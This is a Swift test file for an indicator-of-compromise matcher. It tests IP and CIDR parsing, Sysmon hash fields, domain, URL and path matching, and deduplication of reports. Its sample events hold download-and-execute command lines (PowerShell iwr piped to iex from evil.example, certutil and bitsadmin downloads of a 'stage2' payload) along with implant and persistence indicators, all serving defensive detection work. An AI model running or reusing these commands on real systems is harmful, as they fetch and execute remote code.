// The matcher on single events: addresses against glibc's inet_pton, CIDR edges in both families, Sysmon's
// Hashes split into digests, domains at label boundaries, paths by their tails, one report per entry.
import Foundation
import Testing
import VigilCore
import VigilHunt

#if canImport(Glibc)
    import Glibc
#endif

@Suite struct IOCMatchingTests {
    /// `indicator-value field` for every hit in the one-event JSON document `json`.
    static func hits(_ set: IndicatorSet, _ json: String) throws -> [String] {
        let matcher = IndicatorMatcher(set)
        let scratch = IndicatorScratch()
        var tape = JSONTape()
        var out: [String] = []
        let bytes = Array(json.utf8)
        try bytes.withUnsafeBytes { raw in
            try tape.parseDocument(raw)
            tape.nodes.withUnsafeBufferPointer { nodes in
                let event = Event(view: JSONView(tape: nodes, bytes: raw))
                matcher.scan(event, scratch) { indicator, name, _ in
                    out.append("\(set.indicators[Int(indicator)].value) \(JSONString.unescape(name))")
                }
            }
        }
        return out
    }

    static func set(_ lines: String) throws -> IndicatorSet {
        let set = try IOCFixture.load("iocs.txt", lines)
        #expect(set.diagnostics.isEmpty, "\(set.diagnostics)")
        return set
    }

    /// The 16 bytes inet_pton gives, IPv4 as IPv4-mapped IPv6.
    static func pton(_ text: String) -> [UInt8]? {
        var v6 = in6_addr()
        if inet_pton(AF_INET6, text, &v6) == 1 { return withUnsafeBytes(of: &v6) { Array($0) } }
        var v4 = in_addr()
        if inet_pton(AF_INET, text, &v4) == 1 {
            return [UInt8](repeating: 0, count: 10) + [0xFF, 0xFF] + withUnsafeBytes(of: &v4) { Array($0) }
        }
        return nil
    }

    static func bytes(_ a: IPAddress) -> [UInt8] {
        (0..<8).map { UInt8(truncatingIfNeeded: a.high >> UInt64(56 - 8 * $0)) }
            + (0..<8).map { UInt8(truncatingIfNeeded: a.low >> UInt64(56 - 8 * $0)) }
    }

    @Test func addressesParseAsInetPtonParsesThem() {
        let cases = [
            "172.18.38.5", "0.0.0.0", "255.255.255.255", "256.1.1.1", "1.2.3", "1.2.3.4.5", "1..2.3", "1.2.3.", "a.b.c.d",
            "fe80:0:0:0:3816:b2ee:1b9b:324b", "fe80::3816:b2ee:1b9b:324b", "::", "::1", "1::", "0:0:0:0:0:0:0:1", "::ffff:172.18.38.5",
            "2001:db8::1:0:0:1", "2001:db8:0:0:1:0:0:1", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9", "1:2:3:4:5:6:7::", "::2:3:4:5:6:7:8",
            "1::2::3", ":1", "1:", "12345::1", "::ffff:1.2.3", "1:2:3:4:5:6:1.2.3.4", "1:2:3:4:5:6:7:1.2.3.4", "g::1",
            "::ffff:256.0.0.1", "64:ff9b::192.0.2.33",
        ]
        for text in cases {
            let ours = IPAddress(text).map(Self.bytes)
            #expect(ours == Self.pton(text), "\(text)")
        }
        // Beyond inet_pton: a zone is ignored (Windows writes fe80::1%12), and the canonical text is RFC 5952's.
        #expect(IPAddress("fe80::3816:b2ee:1b9b:324b%12") == IPAddress("fe80::3816:b2ee:1b9b:324b"))
        #expect(IPAddress("fe80:0:0:0:3816:b2ee:1b9b:324b")?.description == "fe80::3816:b2ee:1b9b:324b")
        #expect(IPAddress("2001:db8:0:0:1:0:0:1")?.description == "2001:db8::1:0:0:1")
        #expect(IPAddress("::ffff:172.18.38.5")?.description == "172.18.38.5")
        #expect(IPAddress("0:0:0:0:0:0:0:1")?.description == "::1")
    }

    @Test func blocksContainWhatTheirBitsSay() throws {
        // Containment computed independently: the first `bits` bits of inet_pton's bytes agree.
        func contains(_ block: String, _ address: String) -> Bool? {
            let parts = block.split(separator: "/")
            guard let net = Self.pton(String(parts[0])), let a = Self.pton(address), let n = Int(parts[1]) else { return nil }
            let bits = net[0..<12] == [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF] && !block.contains(":") ? 96 + n : n
            for i in 0..<bits where (net[i / 8] >> (7 - i % 8)) & 1 != (a[i / 8] >> (7 - i % 8)) & 1 { return false }
            return true
        }
        let blocks = [
            "10.0.0.0/8", "172.18.38.0/24", "172.18.38.5/32", "0.0.0.0/0", "172.16.0.0/12", "fe80::/10", "::/0", "2001:db8::/32",
            "2001:db8::1/128", "::ffff:0:0/96",
        ]
        let addresses = [
            "10.0.0.0", "10.255.255.255", "11.0.0.0", "9.255.255.255", "172.18.38.5", "172.18.38.6", "172.18.39.5", "172.31.255.255",
            "172.32.0.0", "fe80:0:0:0:3816:b2ee:1b9b:324b", "febf:ffff::1", "fec0::1", "::1", "2001:db8:ffff::1", "2001:db9::",
            "2001:db8::1", "2001:db8::2", "::ffff:10.1.2.3",
        ]
        var checked = 0
        for block in blocks {
            let network = try #require(IPNetwork(block), "\(block)")
            for address in addresses {
                let expected = try #require(contains(block, address) as Bool?)
                #expect(network.contains(try #require(IPAddress(address))) == expected, "\(block) ∋ \(address)")
                checked += expected ? 1 : 0
            }
        }
        #expect(checked > 20)
        #expect(IPNetwork("10.0.0.0/33") == nil && IPNetwork("fe80::/129") == nil && IPNetwork("10.0.0.0/x") == nil)
        #expect(IPNetwork("10.1.2.3/8")?.description == "10.0.0.0/8")

        // The same through the matcher, on a Windows-style mapped address and a Sysmon 22 QueryResults list.
        let set = try Self.set("172.18.0.0/16\nfe80::/10\n0.0.0.0/0\n")
        #expect(
            try Self.hits(set, #"{"DestinationIp":"::ffff:172.18.38.5","SourceIp":"fe80:0:0:0:3816:b2ee:1b9b:324b%12"}"#) == [
                "172.18.0.0/16 DestinationIp", "0.0.0.0/0 DestinationIp", "fe80::/10 SourceIp",
            ])
        #expect(try Self.hits(set, #"{"QueryResults":"type:  5 x.example;::ffff:52.167.249.196;"}"#) == ["0.0.0.0/0 QueryResults"])
        #expect(
            try Self.hits(set, #"{"IpAddress":"172.18.38.5:49152","Other":"172.18.38.5:49152"}"#) == [
                "172.18.0.0/16 IpAddress", "0.0.0.0/0 IpAddress",
            ])
        #expect(try Self.hits(set, #"{"DestinationIp":"2001:db8::1","Text":"at 172.18.38.5 today"}"#).isEmpty)
    }

    @Test func sysmonHashesSplitIntoDigests() throws {
        let set = try Self.set(
            "\(IOCFixture.md5)\nimphash:\(IOCFixture.imphash)\n\(IOCFixture.sha256.lowercased())\n\(IOCFixture.sha1)\n")
        let hashes = "SHA1=\(IOCFixture.sha1),MD5=\(IOCFixture.md5),SHA256=\(IOCFixture.sha256),IMPHASH=\(IOCFixture.imphash)"
        #expect(
            try Self.hits(set, #"{"EventID":7,"Hashes":"\#(hashes)"}"#) == [
                "\(IOCFixture.sha1.lowercased()) Hashes", "\(IOCFixture.md5.lowercased()) Hashes",
                "\(IOCFixture.sha256.lowercased()) Hashes",
                "\(IOCFixture.imphash.lowercased()) Hashes",
            ])
        #expect(try Self.hits(set, #"{"Hashes":"\#(hashes.lowercased())"}"#).count == 4)
        // Older Sysmon writes one digest per field; ECS nests them.
        #expect(try Self.hits(set, #"{"Hash":"MD5=\#(IOCFixture.md5)"}"#) == ["\(IOCFixture.md5.lowercased()) Hash"])
        #expect(
            try Self.hits(set, #"{"file":{"hash":{"sha256":"\#(IOCFixture.sha256)"}}}"#) == [
                "\(IOCFixture.sha256.lowercased()) file.hash.sha256"
            ])
        // A digest inside a longer run of letters and digits is not that digest.
        #expect(try Self.hits(set, #"{"Hashes":"MD5=\#(IOCFixture.md5)0,X=a\#(IOCFixture.md5),Y=\#(IOCFixture.md5)g"}"#).isEmpty)
        #expect(try Self.hits(set, #"{"Hashes":"MD5=\#(IOCFixture.md5.dropLast())"}"#).isEmpty)
    }

    @Test func domainsMatchWholeLabels() throws {
        let set = try Self.set("githubusercontent.com\nevil.example\nhttp://198.51.100.7/stage2\n")
        #expect(try Self.hits(set, #"{"QueryName":"raw.githubusercontent.com"}"#) == ["githubusercontent.com QueryName"])
        #expect(try Self.hits(set, #"{"QueryName":"RAW.GitHubUserContent.com."}"#) == ["githubusercontent.com QueryName"])
        #expect(try Self.hits(set, #"{"QueryName":"notgithubusercontent.com"}"#).isEmpty)
        #expect(try Self.hits(set, #"{"QueryName":"githubusercontent.com.evil"}"#).isEmpty)
        #expect(
            try Self.hits(set, #"{"CommandLine":"powershell iwr 'https://user@a.b.evil.example:8443/x.ps1?q=1' | iex"}"#) == [
                "evil.example CommandLine"
            ])
        #expect(
            try Self.hits(set, #"{"ScriptBlockText":"(New-Object Net.WebClient).DownloadString(\"http://raw.githubusercontent.com/a\")"}"#)
                .count == 1)
        // A domain in free text that is not a URL is not looked for outside host-name fields.
        #expect(try Self.hits(set, #"{"Description":"see githubusercontent.com"}"#).isEmpty)
        // The URL indicator matches without its scheme; its host (an address) is in the same entry.
        #expect(
            try Self.hits(set, #"{"CommandLine":"certutil -urlcache -f HTTPS://198.51.100.7/stage2/ x.exe"}"#) == [
                "http://198.51.100.7/stage2 CommandLine"
            ])
        #expect(try Self.hits(set, #"{"DestinationIp":"198.51.100.7"}"#) == ["198.51.100.7 DestinationIp"])
    }

    @Test func pathsMatchWholeOrByTail() throws {
        let set = try Self.set(
            #"""
            bitsadmin1_flag.ps1
            System32\bitsadmin.exe
            C:\Program Files\Vendor\agent.exe
            %APPDATA%\Microsoft\evil.dll
            path:HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater
            /tmp/.x/implant
            """#)
        #expect(try Self.hits(set, #"{"Image":"C:\\Windows\\system32\\BITSADMIN.EXE"}"#) == [#"System32\bitsadmin.exe Image"#])
        #expect(try Self.hits(set, #"{"Image":"C:\\Windows\\system32\\xbitsadmin.exe"}"#).isEmpty)
        #expect(
            try Self.hits(
                set,
                #"{"CommandLine":"bitsadmin.exe /transfer /Download https://x/T1197.md C:\\Users\\wardog\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1"}"#
            )
                == ["bitsadmin1_flag.ps1 CommandLine"])
        #expect(
            try Self.hits(set, #"{"ServiceFileName":"\"C:\\Program Files\\Vendor\\agent.exe\" -k run"}"#) == [
                #"C:\Program Files\Vendor\agent.exe ServiceFileName"#
            ])
        #expect(
            try Self.hits(set, #"{"ImageLoaded":"C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\evil.dll"}"#) == [
                #"%APPDATA%\Microsoft\evil.dll ImageLoaded"#
            ])
        #expect(
            try Self.hits(set, #"{"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"}"#) == [
                #"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater TargetObject"#
            ])
        #expect(try Self.hits(set, #"{"process":{"executable":"/var/tmp/.x/implant"}}"#) == ["/tmp/.x/implant process.executable"])
        // Paths are looked for in path and command-line fields only.
        #expect(try Self.hits(set, #"{"Description":"C:\\Temp\\bitsadmin1_flag.ps1"}"#).isEmpty)
    }

    @Test func oneReportPerEntryPreferringTheFieldToTheMessage() throws {
        let bundle = try IOCFixture.load("bundle.json", IOCParsingTests.bundle)
        let hashes = "SHA1=\(IOCFixture.sha1),MD5=\(IOCFixture.md5),SHA256=\(IOCFixture.sha256),IMPHASH=\(IOCFixture.imphash)"
        // The bundle's first indicator ORs the SHA-256 and the MD5: one report. The SHA-1 and the imphash come
        // from two more entries.
        #expect(
            try Self.hits(bundle, #"{"Message":"Image loaded:\r\nHashes: \#(hashes)","EventID":7,"Hashes":"\#(hashes)"}"#) == [
                "\(IOCFixture.sha1.lowercased()) Hashes", "\(IOCFixture.md5.lowercased()) Hashes",
                "\(IOCFixture.imphash.lowercased()) Hashes",
            ])
        #expect(try Self.hits(bundle, #"{"Message":"Hashes: \#(hashes)"}"#).count == 3)
    }

    @Test func evtxShapedEventsAndEscapes() throws {
        let set = try Self.set("\(IOCFixture.ip)\nbitsadmin1_flag.ps1\ncafé.exe\n")
        let event = """
            {"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},
             "System":{"EventID":3,"Computer":"WORKSTATION5","Channel":"Microsoft-Windows-Sysmon/Operational"},
             "EventData":{"DestinationIp":"\(IOCFixture.ip)","TargetFilename":"C:\\\\Temp\\\\bitsadmin1_flag.ps1",
               "Image":"C:\\\\x\\\\caf\\u00e9.exe"}}}
            """
        #expect(try Self.hits(set, event) == ["\(IOCFixture.ip) DestinationIp", "bitsadmin1_flag.ps1 TargetFilename", "café.exe Image"])
    }
}
